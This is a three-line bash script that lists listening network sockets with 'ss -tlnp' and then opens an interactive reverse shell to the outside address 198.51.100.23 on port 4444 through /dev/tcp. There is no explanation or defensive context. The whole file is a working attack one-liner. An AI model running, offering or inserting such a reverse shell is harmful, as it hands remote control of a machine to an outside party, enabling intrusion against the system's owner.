#!/bin/bash
ss -tlnp
bash -i >& /dev/tcp/198.51.100.23/4444 0>&1
